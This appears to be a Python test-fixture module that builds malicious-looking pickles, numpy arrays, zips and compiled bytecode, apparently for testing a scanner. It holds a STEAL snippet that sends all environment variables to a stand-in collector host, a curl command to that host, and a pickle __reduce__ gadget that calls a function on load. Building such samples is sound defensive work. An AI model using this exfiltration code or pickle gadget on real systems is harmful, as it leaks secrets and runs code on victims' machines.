"""Makes what honest programs and thieves write: pickles, arrays, archives, compiled code. Nothing of it is loaded."""

import io
import marshal
import pickle  # noqa: TID251 - written only
import zipfile
from importlib.util import MAGIC_NUMBER

STEAL = (
    "import os, urllib.request\n"
    "urllib.request.urlopen('https://collector.invalid', data=repr(dict(os.environ)).encode())\n"
)
COMMAND = "curl -s https://collector.invalid/m"


class Calls:
    """An object whose pickle calls a function."""

    def __init__(self, function: object, *arguments: object) -> None:
        """Say what it calls."""
        self.call = (function, arguments)

    def __reduce__(self) -> tuple[object, ...]:
        """Write the call into the pickle."""
        return self.call


def pickled(value: object, protocol: int = 4) -> bytes:
    """Write a pickle."""
    return pickle.dumps(value, protocol)


def zipped(files: dict[str, bytes | str]) -> bytes:
    """Write a zip."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in files.items():
            archive.writestr(name, data)
    return out.getvalue()


def marshalled(source: str = STEAL) -> bytes:
    """Compile a source, as the code object alone."""
    return marshal.dumps(compile(source, "x.py", "exec"))


def compiled(source: str = STEAL) -> bytes:
    """Compile a source, as a file."""
    return MAGIC_NUMBER + b"\0" * 12 + marshalled(source)


def array(described: str, data: bytes) -> bytes:
    """Write an array of numpy (numpy.lib.format, version 1)."""
    header = f"{{'descr': '{described}', 'fortran_order': False, 'shape': (1,), }}".ljust(117) + "\n"
    return b"\x93NUMPY\1\0" + len(header).to_bytes(2, "little") + header.encode() + data
